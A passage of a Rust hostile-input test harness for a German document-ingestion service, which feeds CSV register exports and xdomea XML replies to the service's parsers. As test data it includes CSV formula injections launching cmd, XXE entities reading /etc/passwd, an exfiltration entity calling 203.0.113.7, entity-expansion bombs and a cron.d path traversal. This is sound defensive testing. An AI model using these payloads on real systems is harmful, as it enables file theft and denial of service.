                    if debug {
                        println!("hostile: {}: child peak {} kB", s.name, probe.peak_kb);
                    }
                    if probe.peak_kb > CHILD_PEAK_KB {
                        p.mishandled(format!("decode needed {} kB", probe.peak_kb));
                    }
                    probe.decoded
                }
                Err(e) => {
                    probe_failed(&mut p, "decode", &e);
                    t.record(&s.name, s.control, p.verdict());
                    continue;
                }
            }
        } else {
            let b = s.bytes.clone();
            match limited(BUDGET, move || {
                decode(&b)
                    .map(|f| {
                        f.pages
                            .iter()
                            .map(|p| (p.width, p.height, p.bytes.len()))
                            .collect::<Vec<_>>()
                    })
                    .map_err(|e| e.to_string())
            }) {
                Ok(d) => d,
                Err(Fail::Panic(m)) => {
                    p.crash(format!("decode panicked: {m}"));
                    t.record(&s.name, s.control, p.verdict());
                    continue;
                }
                Err(Fail::Timeout) => {
                    p.mishandled(format!("decode still running after {} s", BUDGET.as_secs()));
                    t.record(&s.name, s.control, p.verdict());
                    continue;
                }
            }
        };
        if debug {
            println!(
                "hostile: {}: {} bytes, decode {}",
                s.name,
                s.bytes.len(),
                short(&format!("{decoded:?}"))
            );
        }
        let decode_secs = started.elapsed().as_secs_f64();
        judge_decode(&s.expect, &decoded, &mut p);
        let started = Instant::now();
        let out = catch_unwind(AssertUnwindSafe(|| {
            take_file(&mut station, &profile, &path, &opts)
        }));
        let take_secs = started.elapsed().as_secs_f64();
        if take_secs > BUDGET.as_secs_f64() {
            p.mishandled(format!("take_file took {take_secs:.1} s"));
        }
        if decode_secs + take_secs > 2.0 {
            println!(
                "hostile: {} took {decode_secs:.1} s + {take_secs:.1} s",
                s.name
            );
        }
        if debug {
            println!("hostile: {}: {}", s.name, short(&format!("{out:?}")));
        }
        match out {
            Err(panic) => p.crash(format!("take_file panicked: {}", panic_text(&*panic))),
            Ok(Err(e)) => p.mishandled(format!("take_file failed: {e}")),
            Ok(Ok(o)) => {
                let stored_as = judge_outcome(&s.expect, s.repeat, &decoded, &o, &path, &mut p);
                taken.push(Taken {
                    name: s.name.clone(),
                    path: path.clone(),
                    sha: sha.clone(),
                    ingested: matches!(o, Outcome::Ingested(_)),
                    stored_as,
                });
            }
        }
        t.record(&s.name, s.control, p.verdict());
        let hwm = peak_rss_kb();
        if hwm > last_hwm + 100_000 {
            println!("hostile: peak memory {hwm} kB after {}", s.name);
        }
        last_hwm = hwm;
    }
    // Nothing lost: every file taken is recorded or still where it was.
    let sources: HashSet<String> = station
        .store
        .sources()
        .unwrap()
        .iter()
        .map(|s| s.sha.to_string())
        .collect();
    let quarantined: HashSet<String> = station
        .store
        .quarantine_entries()
        .unwrap()
        .into_iter()
        .map(|q| q.sha)
        .collect();
    let mut places: HashMap<PathBuf, (String, String)> = HashMap::new();
    for tk in &taken {
        let still_there =
            std::fs::read(&tk.path).is_ok_and(|b| Sha256Hex::of(&b).to_string() == tk.sha);
        if tk.ingested && !sources.contains(&tk.sha) {
            t.worsen(
                &tk.name,
                Verdict::Lost("taken but not among the sources".into()),
            );
        }
        if !(sources.contains(&tk.sha) || quarantined.contains(&tk.sha) || still_there) {
            t.worsen(
                &tk.name,
                Verdict::Lost("neither recorded, nor quarantined, nor left in place".into()),
            );
        }
        if let Some(place) = &tk.stored_as {
            if !place.exists() {
                t.worsen(
                    &tk.name,
                    Verdict::Lost(format!(
                        "quarantine copy {} gone at the end",
                        place.display()
                    )),
                );
            }
            if let Some((sha, other)) = places.get(place)
                && *sha != tk.sha
            {
                t.worsen(
                    &tk.name,
                    Verdict::Lost(format!(
                        "quarantined at {}, where {other} lies as well",
                        place.display()
                    )),
                );
            }
            places.insert(place.clone(), (tk.sha.clone(), tk.name.clone()));
        }
    }
}

fn judge_decode(expect: &Expect, decoded: &DecodeSummary, p: &mut Problems) {
    match decoded {
        Ok(pages) => {
            if pages.is_empty() {
                p.wrong("decode gave no pages");
            }
            if pages.iter().any(|&(w, h, n)| w == 0 || h == 0 || n == 0) {
                p.wrong(format!("decode gave an empty page: {pages:?}"));
            }
            match expect {
                Expect::Refuse => p.wrong(format!("decode took {} page(s)", pages.len())),
                Expect::Accept(n) | Expect::EitherPages(n) if pages.len() != *n => {
                    p.wrong(format!("decode gave {} page(s), not {n}", pages.len()));
                }
                _ => {}
            }
        }
        Err(reason) => {
            if let Some(r) = reason_problem(reason, 1000, false) {
                p.mishandled(format!("decode: {r}"));
            }
            if matches!(expect, Expect::Accept(_) | Expect::Duplicate) {
                p.mishandled(format!("valid file refused by decode: {}", short(reason)));
            }
        }
    }
}

/// Checks the outcome; returns where a refused file was put.
fn judge_outcome(
    expect: &Expect,
    repeat: bool,
    decoded: &DecodeSummary,
    out: &Outcome,
    path: &Path,
    p: &mut Problems,
) -> Option<PathBuf> {
    match out {
        Outcome::Ingested(i) => {
            match expect {
                Expect::Refuse => p.wrong(format!("taken with {} page(s)", i.pages)),
                Expect::Duplicate => p.wrong("the same content taken twice"),
                Expect::Accept(n) | Expect::EitherPages(n) if i.pages != *n => {
                    p.wrong(format!("taken with {} page(s), not {n}", i.pages));
                }
                _ => {}
            }
            match decoded {
                Ok(pages) if pages.len() != i.pages => p.wrong(format!(
                    "taken with {} page(s), decode gave {}",
                    i.pages,
                    pages.len()
                )),
                Err(e) => p.wrong(format!("taken although decode said {}", short(e))),
                _ => {}
            }
            None
        }
        Outcome::Quarantined { reason, stored_as } => {
            if matches!(expect, Expect::Accept(_) | Expect::Duplicate) {
                p.mishandled(format!("valid file quarantined: {}", short(reason)));
            }
            if let Some(r) = reason_problem(reason, 1000, false) {
                p.mishandled(r);
            }
            if !stored_as.exists() {
                p.lost(format!(
                    "quarantined at {}, which does not exist",
                    stored_as.display()
                ));
            }
            Some(stored_as.clone())
        }
        Outcome::Duplicate { stored_as, .. } => {
            if !(*expect == Expect::Duplicate || (repeat && *expect == Expect::Refuse)) {
                p.mishandled("reported as a duplicate of an earlier file");
            }
            if !stored_as.exists() {
                p.lost(format!(
                    "duplicate put at {}, which does not exist",
                    stored_as.display()
                ));
            }
            Some(stored_as.clone())
        }
        Outcome::Retry { reason } => {
            p.mishandled(format!("retry without a retry time: {}", short(reason)));
            None
        }
        Outcome::Vanished => {
            if path.exists() {
                p.mishandled("reported as vanished but it is there");
            } else {
                p.lost("reported as vanished");
            }
            None
        }
        Outcome::Resumed { .. } => {
            p.mishandled("reported as resumed");
            None
        }
    }
}

// ---------------------------------------------------------------------------
// Register exports (CSV)

const HEADER: &str = "bg_nummer;kundennummer;nachname;vorname;geburtsdatum;strasse;plz;ort";

/// A valid row, unique to `i`, and its Kundennummer.
fn row(i: u32) -> String {
    let names = ["Müller", "Schmidt", "Öztürk", "Weiß", "Nguyen"];
    format!(
        "{:05}BG{:07};{};{};Anna;01.02.1980;Hauptstraße {}a;32423;Minden",
        12345,
        1000 + i,
        kdnr(i),
        names[i as usize % names.len()],
        i + 1
    )
}
fn kdnr(i: u32) -> String {
    format!("123A{:06}", 456_000 + i)
}
/// A row with one field replaced (0-based column).
fn row_with(i: u32, col: usize, value: &str) -> String {
    let mut f: Vec<String> = row(i).split(';').map(str::to_owned).collect();
    f[col] = value.to_owned();
    f.join(";")
}

fn csv(lines: &[String], eol: &str) -> Vec<u8> {
    let mut s = lines.join(eol);
    s.push_str(eol);
    s.into_bytes()
}

#[derive(Clone, Copy, PartialEq)]
enum Refusal {
    /// A valid export: must be read.
    Never,
    /// The whole file may be refused.
    Allowed,
}

struct CsvKind {
    name: &'static str,
    bytes: Vec<u8>,
    refusal: Refusal,
    /// Exactly this many persons when read.
    persons: Option<usize>,
    /// Lines that must be reported as bad when read.
    bad_lines: Vec<u64>,
    /// Data records in the file: when read, persons and bad rows together
    /// must account for at least this many (nothing silently dropped).
    rows: usize,
    /// Kundennummern of the valid rows; any other person is a wrong acceptance.
    valid: Vec<String>,
    check: Option<fn(&ParsedRegister) -> Option<String>>,
}

fn csv_kind(name: &'static str, bytes: Vec<u8>, refusal: Refusal) -> CsvKind {
    CsvKind {
        name,
        bytes,
        refusal,
        persons: None,
        bad_lines: Vec::new(),
        rows: 0,
        valid: Vec::new(),
        check: None,
    }
}

impl CsvKind {
    fn persons(mut self, n: usize) -> Self {
        self.persons = Some(n);
        self
    }
    fn bad(mut self, lines: &[u64]) -> Self {
        self.bad_lines = lines.to_vec();
        self
    }
    fn rows(mut self, n: usize) -> Self {
        self.rows = n;
        self
    }
    fn valid(mut self, rows: &[u32]) -> Self {
        self.valid = rows.iter().map(|&i| kdnr(i)).collect();
        self
    }
    fn check(mut self, f: fn(&ParsedRegister) -> Option<String>) -> Self {
        self.check = Some(f);
        self
    }
}

/// Header, a bad row (line 2), a valid row 7 (line 3).
fn one_bad(name: &'static str, bad_row: String) -> CsvKind {
    csv_kind(
        name,
        csv(&[HEADER.into(), bad_row, row(7)], "\n"),
        Refusal::Allowed,
    )
    .bad(&[2])
    .persons(1)
    .rows(2)
    .valid(&[7])
}

fn utf16(s: &str, le: bool, bom: bool) -> Vec<u8> {
    let mut v = Vec::new();
    if bom {
        v.extend_from_slice(if le { &[0xFF, 0xFE] } else { &[0xFE, 0xFF] });
    }
    for u in s.encode_utf16() {
        v.extend_from_slice(&if le { u.to_le_bytes() } else { u.to_be_bytes() });
    }
    v
}

fn windows_1252(s: &str) -> Vec<u8> {
    s.chars()
        .map(|c| match c {
            '€' => 0x80,
            c if (c as u32) < 0x100 => c as u32 as u8,
            _ => b'?',
        })
        .collect()
}

fn csv_kinds() -> Vec<CsvKind> {
    use Refusal::{Allowed, Never};
    let two = || vec![HEADER.to_owned(), row(1), row(2)];
    let two_text = two().join("\n") + "\n";
    let mut v = vec![
        csv_kind("csv-utf16le-bom", utf16(&two_text, true, true), Allowed)
            .rows(2)
            .valid(&[1, 2]),
        csv_kind("csv-utf16be-bom", utf16(&two_text, false, true), Allowed)
            .rows(2)
            .valid(&[1, 2]),
        csv_kind("csv-utf16le-without-bom", utf16(&two_text, true, false), Allowed)
            .rows(2)
            .valid(&[1, 2]),
        csv_kind("csv-windows-1252", windows_1252(&two_text), Never)
            .persons(2)
            .valid(&[1, 2])
            .check(|r| {
                (r.persons[0].nachname != "Schmidt" || r.persons[1].nachname != "Öztürk"
                    || !r.persons[0].strasse.starts_with("Hauptstraße")
                    || !r.encoding.contains("1252"))
                .then(|| format!("read as {:?}: {:?}", r.encoding, r.persons[1]))
            }),
        csv_kind(
            "csv-utf8-with-one-latin1-row",
            cat(&[
                format!("{HEADER}\n{}\n", row(1)).as_bytes(),
                &windows_1252(&(row(2) + "\n")),
            ]),
            Allowed,
        )
        .rows(2)
        .valid(&[1, 2])
        .check(no_mojibake),
        one_bad("csv-nul-in-name", row_with(1, 2, "Mül\0ler")),
        csv_kind(
            "csv-nul-after-every-byte",
            two_text.bytes().flat_map(|b| [b, 0, 0]).collect(),
            Allowed,
        )
        .rows(2)
        .valid(&[1, 2]),
        one_bad("csv-10000-char-name", row_with(1, 2, &"x".repeat(10_000))),
        one_bad("csv-10000-umlaut-street", row_with(1, 5, &"ä".repeat(10_000))),
        one_bad("csv-long-emoji-name", row_with(1, 2, &"👩‍👩‍👧".repeat(60))),
        one_bad("csv-10000-char-kundennummer", row_with(1, 1, &"9".repeat(10_000))),
        csv_kind(
            "csv-unbalanced-quote-opening",
            csv(&[HEADER.into(), row_with(1, 2, "\"Müller"), row(2), row(3)], "\n"),
            Allowed,
        )
        // Lines 3 and 4 are good rows: taken, or named as swallowed.
        .rows(3)
        .valid(&[2, 3]),
        csv_kind(
            "csv-quote-inside-unquoted-field",
            csv(&[HEADER.into(), row_with(1, 2, "Mül\"ler"), row(2)], "\n"),
            Allowed,
        )
        .rows(2)
        .valid(&[1, 2]),
        csv_kind(
            "csv-quote-open-at-end-of-file",
            format!("{HEADER}\n{}\n{}\"", row(1), row(2)).into_bytes(),
            Allowed,
        )
        .rows(2)
        .valid(&[1, 2]),
        csv_kind(
            "csv-wrong-header-english",
            csv(&["case;customer;last;first;birth;street;zip;city".into(), row(1)], "\n"),
            Allowed,
        )
        .rows(1),
        csv_kind("csv-no-header", csv(&[row(1), row(2)], "\n"), Allowed)
            .rows(2)
            .valid(&[1, 2]),
        csv_kind("csv-columns-in-other-order", {
            let mut h: Vec<&str> = HEADER.split(';').collect();
            h.swap(2, 3);
            csv(&[h.join(";"), row(1)], "\n")
        }, Allowed)
        .rows(1)
        .valid(&[1])
        .check(|r| {
            r.persons
                .iter()
                .find(|p| p.nachname == "Anna")
                .map(|p| format!("columns taken in file order: {p:?}"))
        }),
        csv_kind("csv-header-only", csv(&[HEADER.into()], "\n"), Allowed).persons(0),
        csv_kind("csv-empty", Vec::new(), Allowed).persons(0),
        csv_kind("csv-bom-only", b"\xef\xbb\xbf".to_vec(), Allowed).persons(0),
        csv_kind(
            "csv-million-empty-lines",
            {
                let mut b = format!("{HEADER}\n").into_bytes();
                b.resize(b.len() + 1_000_000, b'\n');
                b.extend_from_slice(format!("{}\n", row(1)).as_bytes());
                b
            },
            Allowed,
        )
        .persons(1)
        .rows(1)
        .valid(&[1]),
        csv_kind(
            "csv-100000-lines-of-semicolons",
            format!("{HEADER}\n{}", ";;;;;;;\n".repeat(100_000)).into_bytes(),
            Allowed,
        )
        .persons(0),
        csv_kind(
            "csv-formula-injection",
            csv(
                &[
                    HEADER.into(),
                    row_with(1, 2, "=CMD|' /C calc'!A0")
                        .replace(";Anna;", ";+SUM(1+1)*cmd|' /C notepad'!A1;"),
                    row_with(2, 5, "@SUM(1+1)"),
                    row_with(3, 7, "-2+3+cmd|' /C calc'!A0"),
                ],
                "\n",
            ),
            Allowed,
        )
        .rows(3)
        .valid(&[1, 2, 3])
        .check(|r| {
            r.persons
                .iter()
                .find(|p| {
                    p.nachname.starts_with("=") && p.nachname != "=CMD|' /C calc'!A0"
                })
                .map(|p| format!("formula changed: {p:?}"))
        }),
        csv_kind("csv-crlf", csv(&two(), "\r\n"), Never)
            .persons(2)
            .valid(&[1, 2]),
        csv_kind("csv-cr-only", csv(&two(), "\r"), Allowed)
            .rows(2)
            .valid(&[1, 2]),
        csv_kind(
            "csv-mixed-line-ends",
            format!("{HEADER}\r\n{}\n{}\r{}\r\n", row(1), row(2), row(3)).into_bytes(),
            Allowed,
        )
        .rows(3)
        .valid(&[1, 2, 3]),
        csv_kind(
            "csv-semicolon-inside-quotes",
            csv(
                &[HEADER.into(), row_with(1, 5, "\"Hauptstraße 12; Hinterhaus\"")],
                "\n",
            ),
            Never,
        )
        .persons(1)
        .valid(&[1])
        .check(|r| {
            (r.persons[0].strasse != "Hauptstraße 12; Hinterhaus")
                .then(|| format!("street read as {:?}", r.persons[0].strasse))
        }),
        csv_kind(
            "csv-doubled-quotes",
            csv(&[HEADER.into(), row_with(1, 3, "\"Anna \"\"Anni\"\"\"")], "\n"),
            Allowed,
        )
        .rows(1)
        .valid(&[1]),
        csv_kind(
            "csv-newline-inside-quoted-street",
            csv(
                &[HEADER.into(), row_with(1, 5, "\"Hauptstraße 12\nHinterhaus\""), row(2)],
                "\n",
            ),
            Allowed,
        )
        .rows(2)
        .valid(&[1, 2]),
        one_bad("csv-too-many-columns", row(1) + ";extra;noch mehr"),
        one_bad("csv-too-few-columns", "12345BG0001001;123A456001;Müller".into()),
        one_bad("csv-date-31-february", row_with(1, 4, "31.02.1980")),
        one_bad("csv-date-iso", row_with(1, 4, "1980-02-01")),
        one_bad("csv-date-year-99999", row_with(1, 4, "01.02.99999")),
        one_bad("csv-bg-nummer-letters", row_with(1, 0, "12345XX0012345")),
        one_bad("csv-kundennummer-short", row_with(1, 1, "12A3456")),
        one_bad("csv-empty-bg-nummer", row_with(1, 0, "")),
        one_bad(
            "csv-terminal-escape-in-name",
            row_with(1, 2, "\u{1b}[2J\u{1b}[31mMüller\u{7}"),
        ),
        csv_kind(
            "csv-whitespace-line",
            csv(&[HEADER.into(), row(1), " \t  ".into(), row(2)], "\n"),
            Never,
        )
        .persons(2)
        .valid(&[1, 2]),
        csv_kind(
            "csv-header-other-case-and-spaces",
            csv(
                &[
                    "BG_Nummer ; Kundennummer ; Nachname ; Vorname ; Geburtsdatum ; Strasse ; PLZ ; Ort".into(),
                    row(1),
                ],
                "\n",
            ),
            Allowed,
        )
        .rows(1)
        .valid(&[1]),
        csv_kind(
            "csv-comma-separated",
            csv(&[HEADER.replace(';', ","), row(1).replace(';', ",")], "\n"),
            Allowed,
        )
        .persons(0),
        csv_kind(
            "csv-tab-separated",
            csv(&[HEADER.replace(';', "\t"), row(1).replace(';', "\t")], "\n"),
            Allowed,
        )
        .persons(0),
        csv_kind("csv-binary-garbage", Rng(0x5EED_0020).bytes(65_536), Allowed).persons(0),
        csv_kind(
            "csv-1mb-line-without-newline",
            format!("{HEADER}\n{}", "a".repeat(1 << 20)).into_bytes(),
            Allowed,
        )
        .persons(0)
        .rows(1),
        one_bad("csv-100000-columns", row(1) + &";".repeat(100_000)),
        csv_kind(
            "csv-header-repeated",
            csv(&[HEADER.into(), row(1), HEADER.into(), row(2)], "\n"),
            Allowed,
        )
        .bad(&[3])
        .persons(2)
        .valid(&[1, 2]),
        csv_kind(
            "csv-trailing-semicolon",
            csv(&[HEADER.to_owned() + ";", row(1) + ";"], "\n"),
            Allowed,
        )
        .rows(1)
        .valid(&[1]),
        csv_kind(
            "csv-bg-nummer-with-spaces",
            csv(&[HEADER.into(), row_with(1, 0, "12345 BG 0001001")], "\n"),
            Allowed,
        )
        .rows(1)
        .valid(&[1])
        .check(|r| {
            r.persons
                .iter()
                .find(|p| p.bg != "12345BG0001001")
                .map(|p| format!("BG-Nummer kept as {:?}", p.bg))
        }),
        csv_kind(
            "csv-cp1252-undefined-byte",
            cat(&[format!("{HEADER}\n").as_bytes(), &windows_1252(&row(1)), b"\x81\n"]),
            Allowed,
        )
        .rows(1)
        .valid(&[1]),
        csv_kind(
            "csv-overlong-utf8",
            cat(&[format!("{HEADER}\n{}", row(1)).as_bytes(), b"\xc0\xaf\xe0\x80\xaf\n"]),
            Allowed,
        )
        .rows(1)
        .valid(&[1]),
        csv_kind(
            "csv-double-bom",
            cat(&[b"\xef\xbb\xbf\xef\xbb\xbf", &csv(&two(), "\n")]),
            Allowed,
        )
        .rows(2)
        .valid(&[1, 2]),
        csv_kind(
            "csv-rtl-override-and-emoji-in-names",
            csv(&[HEADER.into(), row_with(1, 2, "Mül\u{202e}rel"), row_with(2, 3, "Anna 😀")], "\n"),
            Allowed,
        )
        .rows(2)
        .valid(&[1, 2]),
        csv_kind(
            "csv-same-row-twice",
            csv(&[HEADER.into(), row(1), row(1)], "\n"),
            Allowed,
        )
        .rows(2)
        .valid(&[1]),
        csv_kind(
            "csv-same-kundennummer-two-persons",
            csv(&[HEADER.into(), row(1), row_with(1, 2, "Anders")], "\n"),
            Allowed,
        )
        .rows(2)
        .valid(&[1]),
        csv_kind(
            "csv-excel-sep-line",
            csv(&["sep=;".into(), HEADER.into(), row(1), row(2)], "\n"),
            Allowed,
        )
        .rows(2)
        .valid(&[1, 2]),
        csv_kind(
            "csv-quoted-header-and-fields",
            csv(
                &[
                    HEADER.split(';').map(|f| format!("\"{f}\"")).collect::<Vec<_>>().join(";"),
                    row(1).split(';').map(|f| format!("\"{f}\"")).collect::<Vec<_>>().join(";"),
                ],
                "\n",
            ),
            Allowed,
        )
        .rows(1)
        .valid(&[1]),
        csv_kind(
            "csv-utf8-bom-excel",
            cat(&[b"\xef\xbb\xbf", &csv(&two(), "\r\n")]),
            Never,
        )
        .persons(2)
        .valid(&[1, 2]),
    ];
    // Kinds whose rows are all bad: nothing but the stated valid rows may be taken.
    for k in &mut v {
        if k.rows == 0 && k.persons.is_none() {
            k.rows = 1;
        }
    }
    v
}

fn no_mojibake(r: &ParsedRegister) -> Option<String> {
    r.persons
        .iter()
        .find(|p| format!("{}{}", p.nachname, p.strasse).contains(['Ã', '\u{fffd}']))
        .map(|p| format!("garbled: {p:?}"))
}

/// With `HOSTILE_DUMP=<dir>`, every input is also written there, to try it
/// by hand.
fn dump(name: &str, bytes: &[u8]) {
    if let Some(dir) = std::env::var_os("HOSTILE_DUMP") {
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(Path::new(&dir).join(name), bytes).unwrap();
    }
}

fn registers(t: &mut Tally) {
    for k in csv_kinds() {
        dump(k.name, &k.bytes);
        let bytes = k.bytes.clone();
        let lines = bytes.iter().filter(|&&b| b == b'\n' || b == b'\r').count() as u64 + 1;
        let mut p = Problems::default();
        match limited(BUDGET, move || parse_csv(&bytes)) {
            Err(Fail::Panic(m)) => p.crash(format!("parse_csv panicked: {m}")),
            Err(Fail::Timeout) => p.mishandled(format!(
                "parse_csv still running after {} s",
                BUDGET.as_secs()
            )),
            Ok(Err(e)) => {
                if std::env::var_os("HOSTILE_DEBUG").is_some() {
                    println!("hostile: {}: refused: {}", k.name, short(&e.to_string()));
                }
                if k.refusal == Refusal::Never {
                    p.mishandled(format!("valid register refused: {}", short(&e.to_string())));
                }
                if let Some(r) = reason_problem(&e.to_string(), 300, true) {
                    p.mishandled(r);
                }
            }
            Ok(Ok(r)) => {
                if std::env::var_os("HOSTILE_DEBUG").is_some() {
                    println!(
                        "hostile: {}: {} persons ({}), bad {}",
                        k.name,
                        r.persons.len(),
                        r.encoding,
                        short(&format!(
                            "{:?}",
                            r.bad
                                .iter()
                                .map(|b| (b.line, &b.reason))
                                .collect::<Vec<_>>()
                        ))
                    );
                }
                judge_register(&k, &r, lines, &mut p);
            }
        }
        t.record(k.name, false, p.verdict());
    }
}

fn judge_register(k: &CsvKind, r: &ParsedRegister, lines: u64, p: &mut Problems) {
    for b in &r.bad {
        if let Some(m) = reason_problem(&b.reason, 300, true) {
            p.mishandled(format!("line {}: {m}", b.line));
        }
        if b.line < 1 || b.line > lines + 1 {
            p.mishandled(format!("bad row reported at line {} of {lines}", b.line));
        }
    }
    for person in &r.persons {
        if !k.valid.contains(&person.kundennummer) {
            p.wrong(format!("taken: {person:?}"));
        }
        let fields = [
            &person.bg,
            &person.kundennummer,
            &person.nachname,
            &person.vorname,
            &person.geburtsdatum,
            &person.strasse,
            &person.plz,
            &person.ort,
        ];
        if fields.iter().any(|f| {
            f.chars()
                .any(|c| (c.is_control() && !"\r\n".contains(c)) || c == '\u{feff}')
        }) {
            p.wrong(format!("taken with control characters: {person:?}"));
        }
    }
    if let Some(n) = k.persons {
        if r.persons.len() > n {
            p.wrong(format!("{} persons taken, not {n}", r.persons.len()));
        } else if r.persons.len() < n {
            p.mishandled(format!(
                "{} persons taken, not {n}; bad rows: {:?}",
                r.persons.len(),
                r.bad
                    .iter()
                    .map(|b| (b.line, short(&b.reason)))
                    .collect::<Vec<_>>()
            ));
        }
    }
    for line in &k.bad_lines {
        if !r.bad.iter().any(|b| b.line == *line) {
            let msg = format!(
                "bad line {line} not reported (bad rows: {:?})",
                r.bad.iter().map(|b| b.line).collect::<Vec<_>>()
            );
            // Not reported: taken (more persons than good rows) or dropped.
            if k.persons.is_some_and(|n| r.persons.len() > n) {
                p.wrong(msg);
            } else {
                p.lost(msg);
            }
        }
    }
    if r.persons.len() + r.bad.len() < k.rows {
        p.lost(format!(
            "{} data rows, {} taken, {} reported",
            k.rows,
            r.persons.len(),
            r.bad.len()
        ));
    }
    if let Some(m) = k.check.and_then(|f| f(r)) {
        p.wrong(m);
    }
}

// ---------------------------------------------------------------------------
// DMS replies (xdomea XML)

#[derive(Clone, PartialEq)]
enum XmlWant {
    Err,
    Received(String),
    Imported(String),
    Either,
}

struct XmlKind {
    name: String,
    bytes: Vec<u8>,
    want: XmlWant,
    control: bool,
    isolate: bool,
}

const SECRET: &str = "GEHEIM-4711-XXE-MARKE";

fn xml_kinds(dir: &Path) -> Vec<XmlKind> {
    let pid = "7f3e1c2a-5b6d-4e8f-9a0b-1c2d3e4f5a6b";
    let ok = received_xml(pid);
    let secret = dir.join("geheim.txt");
    std::fs::write(&secret, SECRET).unwrap();
    let fifo = dir.join("xxe-fifo");
    let _ = Command::new("mkfifo").arg(&fifo).status();
    let with_pid = |value: &str| ok.replace(pid, value);
    let with_dtd = |dtd: &str, value: &str| {
        with_pid(value).replacen(
            "?>\n",
            &format!("?>\n<!DOCTYPE xdomea:FVDaten.EmpfangBestaetigen.0629 [{dtd}]>\n"),
            1,
        )
    };
    let object = |n: u32| ObjectResult {
        number: Some(n),
        dms_id: Some(format!("DMS-{n}")),
        location: Some("Akte 4711".to_owned()),
        ok: true,
        errors: Vec::new(),
    };
    let imported = reply::write_imported(
        pid,
        time::OffsetDateTime::UNIX_EPOCH,
        &["0000000"],
        &[object(1)],
    );
    let x = |name: &str, s: String, want: XmlWant| XmlKind {
        name: name.to_owned(),
        bytes: s.into_bytes(),
        want,
        control: false,
        isolate: [
            "xml-billion-laughs",
            "xml-quadratic-blowup",
            "xml-prozessid-1mb",
            "xml-0630-100000-objects",
            "xml-150000-attributes",
            "xml-10mb-comment",
        ]
        .contains(&name),
    };
    let laughs = {
        let mut d = String::from("<!ENTITY lol \"lol\">");
        for i in 1..=9 {
            let prev = if i == 1 {
                "lol".to_owned()
            } else {
                format!("lol{}", i - 1)
            };
            let _ = write!(d, "<!ENTITY lol{i} \"{}\">", format!("&{prev};").repeat(10));
        }
        d
    };
    let mut v = vec![
        XmlKind {
            control: true,
            ..x("xml-control-0629", ok.clone(), XmlWant::Received(pid.into()))
        },
        XmlKind {
            control: true,
            ..x("xml-control-0630", imported.clone(), XmlWant::Imported(pid.into()))
        },
        x("xml-billion-laughs", with_dtd(&laughs, "&lol9;"), XmlWant::Err),
        x(
            "xml-quadratic-blowup",
            with_dtd(
                &format!("<!ENTITY a \"{}\">", "x".repeat(50_000)),
                &"&a;".repeat(50_000),
            ),
            XmlWant::Err,
        ),
        x("xml-harmless-internal-dtd", with_dtd("<!ELEMENT x ANY>", pid), XmlWant::Either),
        x(
            "xml-xxe-etc-passwd",
            with_dtd("<!ENTITY xxe SYSTEM \"file:///etc/passwd\">", "&xxe;"),
            XmlWant::Either,
        ),
        x(
            "xml-xxe-local-secret",
            with_dtd(
                &format!("<!ENTITY xxe SYSTEM \"file://{}\">", secret.display()),
                "&xxe;",
            ),
            XmlWant::Either,
        ),
        x(
            "xml-xxe-fifo",
            with_dtd(
                &format!("<!ENTITY xxe SYSTEM \"file://{}\">", fifo.display()),
                "&xxe;",
            ),
            XmlWant::Either,
        ),
        x(
            "xml-external-dtd-over-network",
            ok.replacen("?>\n", "?>\n<!DOCTYPE x SYSTEM \"http://203.0.113.7/boese.dtd\">\n", 1),
            XmlWant::Either,
        ),
        x(
            "xml-parameter-entity",
            with_dtd(
                &format!(
                    "<!ENTITY % file SYSTEM \"file://{}\"><!ENTITY % eval \"<!ENTITY exfil SYSTEM 'http://203.0.113.7/?%file;'>\">%eval;",
                    secret.display()
                ),
                "&exfil;",
            ),
            XmlWant::Either,
        ),
        XmlKind {
            isolate: true,
            ..x("xml-5mb-nested-elements", String::new(), XmlWant::Either)
        },
        XmlKind {
            isolate: true,
            ..x("xml-5mb-nested-in-kopf", String::new(), XmlWant::Either)
        },
        XmlKind {
            bytes: cat(&[&ok.as_bytes()[..ok.find(pid).unwrap()], b"\xff\xfe\xc0\xaf", &ok.as_bytes()[ok.find(pid).unwrap()..]]),
            ..x("xml-invalid-utf8", String::new(), XmlWant::Err)
        },
        x("xml-empty", String::new(), XmlWant::Err),
        x("xml-whitespace-only", " \n\t\r\n".into(), XmlWant::Err),
        x(
            "xml-wrong-root-html",
            "<html><body><h1>502 Bad Gateway</h1></body></html>".into(),
            XmlWant::Err,
        ),
        x(
            "xml-other-xdomea-message",
            ok.replace("FVDaten.EmpfangBestaetigen.0629", "Geschaeftsgang.Geschaeftsgang.0201"),
            XmlWant::Err,
        ),
        x(
            "xml-missing-prozessid",
            ok.replace(&format!("<xdomea:ProzessID>{pid}</xdomea:ProzessID>"), ""),
            XmlWant::Err,
        ),
        x("xml-empty-prozessid", with_pid(""), XmlWant::Err),
        x(
            "xml-two-prozessids",
            ok.replace(
                &format!("<xdomea:ProzessID>{pid}</xdomea:ProzessID>"),
                &format!("<xdomea:ProzessID>{pid}</xdomea:ProzessID><xdomea:ProzessID>andere-id</xdomea:ProzessID>"),
            ),
            XmlWant::Either,
        ),
        x("xml-cut-in-half", ok[..ok.len() / 2].to_owned(), XmlWant::Err),
        x("xml-nul-byte", ok.replacen("<xdomea:Kopf>", "<xdomea:Kopf>\0", 1), XmlWant::Err),
        x("xml-two-roots", format!("{ok}{}", ok.split_once("?>\n").unwrap().1), XmlWant::Err),
        XmlKind {
            bytes: utf16(&ok.replace("UTF-8", "UTF-16"), true, true),
            ..x("xml-utf16-with-bom", String::new(), XmlWant::Either)
        },
        x("xml-prozessid-1mb", with_pid(&"7".repeat(1 << 20)), XmlWant::Either),
        x("xml-prozessid-path-traversal", with_pid("../../../../etc/cron.d/x"), XmlWant::Either),
        x(
            "xml-0630-100000-objects",
            reply::write_imported(
                pid,
                time::OffsetDateTime::UNIX_EPOCH,
                &["0000000"],
                &(1..=100_000).map(object).collect::<Vec<_>>(),
            ),
            XmlWant::Either,
        ),
        x(
            "xml-0630-numbers-out-of-range",
            imported.replacen("<xdomea:NummerImStapel>1<", "<xdomea:NummerImStapel>99999999999999999999<", 1)
                .replacen("0000000", "-1", 1),
            XmlWant::Either,
        ),
        x(
            "xml-wrong-namespace",
            ok.replace("urn:xoev-de:xdomea:schema:3.0.0", "urn:boese:nachgemacht"),
            XmlWant::Either,
        ),
        x(
            "xml-no-namespace",
            ok.replace("xdomea:", "").replace(" xmlns:xdomea=\"urn:xoev-de:xdomea:schema:3.0.0\"", ""),
            XmlWant::Either,
        ),
        x("xml-undefined-entity", with_pid("&gibtsnicht;"), XmlWant::Err),
        XmlKind {
            bytes: Rng(0x5EED_0030).bytes(20_000),
